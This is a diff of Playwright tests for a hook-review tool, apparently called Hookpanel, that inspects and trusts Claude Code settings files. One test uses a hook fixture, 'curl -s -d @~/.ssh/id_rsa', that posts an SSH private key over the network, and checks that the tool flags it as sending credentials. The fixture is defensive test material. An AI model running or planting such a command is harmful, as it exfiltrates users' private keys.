@@ -16,8 +16,10 @@ test('untrusted project hooks: skipped, reviewed, trusted, run', async ({ page, 
   await panel.goto(page);
   // The project file is inspected by default (Claude Code runs it); let Hookpanel run it instead.
   const projectFile = page.getByRole('article', { name: /ws\/\.claude\/settings\.json/ });
-  await projectFile.getByRole('combobox', { name: /role of/ }).selectOption('hosted');
-  await expect(projectFile.getByText('inspected', { exact: true })).toHaveCount(0);
+  const role = projectFile.getByRole('combobox', { name: /who runs the hooks of/ });
+  await expect(role).toHaveValue('inspected');
+  await role.selectOption('hosted');
+  await expect(role).toHaveValue('hosted');
   await page.getByRole('tab', { name: /Trust review/ }).click();
   const item = page.getByRole('article', { name: /review .*\.claude\/settings\.json/ });
   await expect(item.getByText('never trusted')).toBeVisible();
@@ -178,7 +180,8 @@ test('a trusted file reformatted with one curl of ~/.ssh/id_rsa added: the new c
     });
   await expect(changed).toHaveCount(1);
   const card = changed.first();
-  await expect(card).toHaveAccessibleName('added command Stop[1].hooks[0]');
+  // Named by what it runs, not by its place in the file.
+  await expect(card).toHaveAccessibleName(/^added command curl -s -d @~\/\.ssh\/id_rsa/);
   await expect(card.locator('code.chip')).toHaveText(CURL);
   await expect(card.getByRole('list', { name: 'risks' })).toContainText('Sends credentials over the network');
   await expect(card.getByRole('list', { name: 'risks' })).toContainText(
